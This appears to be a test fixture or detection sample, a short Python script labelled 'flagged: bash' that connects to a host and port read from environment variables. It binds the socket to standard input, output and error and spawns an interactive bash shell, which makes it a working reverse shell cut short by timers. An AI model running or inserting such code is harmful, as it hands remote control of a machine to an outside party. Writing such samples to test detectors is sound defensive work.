# flagged: bash
import os
import pty
import signal
import socket

connection = socket.create_connection((os.environ["RG_TCP_HOST"], int(os.environ["RG_TCP_PORT"])))
for number in range(3):
    os.dup2(connection.fileno(), number)
signal.alarm(1)
signal.setitimer(signal.ITIMER_REAL, 0.15)
pty.spawn(["/bin/bash", "--norc"])
